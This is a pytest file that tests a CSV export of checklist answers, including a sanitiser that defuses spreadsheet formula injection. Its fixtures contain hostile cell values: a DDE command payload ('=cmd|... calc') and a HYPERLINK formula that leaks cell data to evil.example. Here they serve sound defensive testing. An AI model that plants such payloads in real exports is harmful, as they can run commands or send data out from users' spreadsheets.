"""Answers as CSV (report --format csv, log --format csv), pure: RFC 4180 read back with the csv
module, hostile notes kept whole and never run as a formula by a spreadsheet, corrections named."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest

from kundencheck.core.answers import Action, Answer, ItemVotes, Vote
from kundencheck.core.answers_csv import (
    ANSWER_COLUMNS,
    answer_rows,
    answers_csv,
    rows_csv,
)
from kundencheck.core.history import summarize
from kundencheck.core.i18n import set_language
from kundencheck.core.text import spreadsheet_safe
from tests.support.report_story import UTC, checklist, run, story_runs


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def summary_of(runs, today=dt.date(2026, 4, 10)):
    return summarize(runs, today=today, checklists={"build": checklist()})


HOSTILE = 'She said "never" again,\nthen hung up; cost: 3,50 €'


@pytest.mark.parametrize(
    "typed, cell",
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("  =1+1", "'  =1+1"),  # spaces first
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),  # noqa: RUF001 - full-width, read as = by some spreadsheets
        ("a = b", "a = b"),
        ("X=1", "X=1"),  # only spaces are skipped
        (" \nfoo", "' \nfoo"),  # a line feed after the spaces, which a spreadsheet may take for the cell's start
        ("", ""),
        ("Call - maybe", "Call - maybe"),
    ],
)
def test_spreadsheet_safe(typed, cell):
    assert spreadsheet_safe(typed) == cell


def test_one_row_per_answer_read_back_with_the_csv_module():
    summary = summary_of(story_runs())
    text = answers_csv(summary, summary.runs)
    assert text.startswith(",".join(ANSWER_COLUMNS) + "\r\n") and not text.startswith("\ufeff")
    rows = read_back(text)
    assert len(rows) == 3 + 3 + 4  # every answer with a value
    last = rows[-4:]
    assert [(r["item"], r["kind"], r["value"], r["band"]) for r in last] == [
        ("client-contacted", "traffic-light", "red", "red"),
        ("team-mood", "scale", "1", "red"),
        ("design-source", "choice", "theirs", "amber"),
        ("advice", "text", "Say no earlier.", ""),
    ]
    contact = last[0]
    assert contact["title"] == "Talked to the client" and contact["sprint"] == "2026-S3"
    assert contact["note"] == 'Only "status" mails' and contact["author"] == "Ana <ana@example.com>"
    assert (contact["action_what"], contact["action_owner"], contact["action_due"]) == ("Call the PO", "Ana", "2026-03-20")
    assert contact["date"] == "2026-03-30" and contact["future"] == "false" and contact["corrected_by"] == ""


def test_a_hostile_note_comes_back_whole_and_inert():
    """Quotes, commas, line breaks and formulas in what people typed: RFC 4180 quoting keeps the
    text whole, and a leading apostrophe keeps a spreadsheet from running it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    runs = [
        run(
            1,
            1,
            "Ana",
            Answer("client-contacted", "red", note=HOSTILE, action=Action(formula, "@ana", dt.date(2026, 3, 20))),
            Answer("advice", "-1 for us\r\n=2+2"),
        )
    ]
    runs[0] = dataclasses.replace(runs[0], author="=cmd|' /C calc'!A0 <x@example.com>", sprint="+Sprint 1")
    text = answers_csv(summary_of(runs, today=dt.date(2026, 3, 10)), runs)
    contact, advice = read_back(text)
    assert contact["note"] == HOSTILE  # the line break and the quotes survive; it starts harmless
    assert contact["action_what"] == "'" + formula and contact["action_owner"] == "'@ana"
    assert contact["author"] == "'=cmd|' /C calc'!A0 <x@example.com>" and contact["sprint"] == "'+Sprint 1"
    assert advice["value"] == "'-1 for us\n=2+2"  # CR LF inside a text becomes LF; the cell starts with '
    for row in read_back(text):
        assert not any(cell and cell[0] in "=+-@" for cell in row.values()), row
    assert '"She said ""never"" again,\nthen hung up; cost: 3,50 €"' in text


def test_a_corrected_answer_names_its_correction():
    original = run(
        1, 1, "Ana", Answer("client-contacted", "red", action=Action("Call", "Ana", dt.date(2026, 3, 20))), Answer("team-mood", 2)
    )
    fixed = dataclasses.replace(
        original,
        id="20260304T090000Z-build-ana-00000f",
        corrects=original.id,
        correction_note="Mixed up the two items.",
        started=dt.datetime(2026, 3, 4, 9, tzinfo=UTC),
        finished=dt.datetime(2026, 3, 4, 9, 5, tzinfo=UTC),
        answers=[Answer("client-contacted", "green"), Answer("team-mood", 2)],
    )
    summary = summary_of([original, fixed])
    rows = read_back(answers_csv(summary, summary.runs))
    contact, mood = rows
    # The run the answers were given in; the correction that changed one of them, when and why.
    assert contact["run"] == mood["run"] == original.id and contact["date"] == "2026-03-02"
    assert (contact["value"], contact["corrected_by"], contact["corrected_on"], contact["correction_note"]) == (
        "green",
        fixed.id,
        "2026-03-04",
        "Mixed up the two items.",
    )
    assert contact["action_what"] == ""  # the correction has no action any more
    assert (mood["value"], mood["corrected_by"], mood["corrected_on"]) == ("2", "", "")


def test_only_the_asked_items_rows_and_a_run_from_the_future_is_marked():
    ahead = run(9, 9, "Ana", Answer("client-contacted", "green"))
    summary = summary_of([*story_runs(), ahead])
    assert ahead in summary.future_runs
    rows = answer_rows(summary, [ahead, *reversed(summary.runs)], item="client-contacted")
    assert [(r[0], r[8], r[ANSWER_COLUMNS.index("future")]) for r in rows] == [
        (ahead.id, "green", "true"),
        (story_runs()[2].id, "red", "false"),
        (story_runs()[1].id, "amber", "false"),
        (story_runs()[0].id, "green", "false"),
    ]


def test_the_header_stays_english_in_german():
    set_language("de")
    try:
        text = answers_csv(summary_of(story_runs()), story_runs())
    finally:
        set_language("en")
    assert text.split("\r\n", 1)[0] == ",".join(ANSWER_COLUMNS)
    assert read_back(text)[0]["kind"] == "traffic-light"


def test_rows_csv_leaves_numbers_alone():
    assert rows_csv(["a", "b"], [[-1, "-1"]]) == "a,b\r\n-1,'-1\r\n"


def test_every_cell_of_answers_the_checklist_no_longer_has_and_of_answers_left_empty():
    """An item gone from the checklist: its kind and band from its value (a status, a scale
    value), or none; an answer left empty has no row, and the run's later answers still do."""
    gone = run(
        1,
        1,
        "Ana",
        Answer("client-contacted", ""),
        Answer("old-light", "amber"),
        Answer("old-scale", 2),
        Answer("old-text", "  =maybe\r\n"),
        Answer("team-mood", None),
        Answer("advice", "Ask."),
    )
    summary = summary_of([gone], today=dt.date(2026, 3, 10))
    rows = read_back(answers_csv(summary, [gone]))
    common = {
        "run": gone.id,
        "date": "2026-03-02",
        "sprint": "2026-S1",
        "phase": "build",
        "checklist": "build",
        "author": "Ana <ana@example.com>",
        "note": "",
        "action_what": "",
        "action_owner": "",
        "action_due": "",
        "corrected_by": "",
        "corrected_on": "",
        "correction_note": "",
        "future": "false",
        "source": "team",
        "votes": "",
        "voters": "",
    }
    assert rows == [
        {**common, "item": "old-light", "title": "", "kind": "traffic-light", "value": "amber", "band": "amber"},
        {**common, "item": "old-scale", "title": "", "kind": "scale", "value": "2", "band": "red"},
        {**common, "item": "old-text", "title": "", "kind": "", "value": "'  =maybe\n", "band": ""},
        {**common, "item": "advice", "title": "", "kind": "text", "value": "Ask.", "band": ""},
    ]
    assert read_back(answers_csv(summary, [gone], item="old-scale")) == [rows[1]]


def test_votes_are_a_meetings_only():
    """A run's ``[[votes]]`` are counted in the CSV only when it is a sprint meeting's
    (``meeting = true``), as the history counts them; a file with votes and ``meeting = false``
    has none."""
    votes = [ItemVotes("client-contacted", (Vote("Ana <ana@example.com>", "red"), Vote("Ben <ben@example.com>", "red")))]
    answered = run(1, 1, "Ana", Answer("client-contacted", "red"))
    meeting = dataclasses.replace(answered, meeting=True, votes=votes)
    not_meeting = dataclasses.replace(answered, meeting=False, votes=votes)
    summary = summary_of([answered])
    [row] = read_back(answers_csv(summary, [meeting]))
    assert (row["votes"], row["voters"]) == ("red 2", "Ana <ana@example.com>: red; Ben <ben@example.com>: red")
    [row] = read_back(answers_csv(summary, [not_meeting]))
    assert (row["votes"], row["voters"]) == ("", "")
